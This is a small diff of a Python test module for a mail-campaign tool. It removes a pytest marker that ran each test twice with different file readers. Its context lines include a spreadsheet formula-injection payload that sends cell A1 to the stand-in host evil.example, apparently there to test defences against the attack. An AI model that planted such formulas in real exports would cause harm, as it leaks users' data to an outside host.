@@ -23,9 +23,6 @@ from mailer.demo.stores import Stores
 from tests.engine_setup import NOW, add_contacts, engine_for, sample_campaign, settings_for
 from tests.smtp_servers import smtp_server
 
-# Each test twice: the file read on a thread, then in a child process.
-pytestmark = pytest.mark.usefixtures("each_reader")
-
 SLUG = "service-reminder-2024-10"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
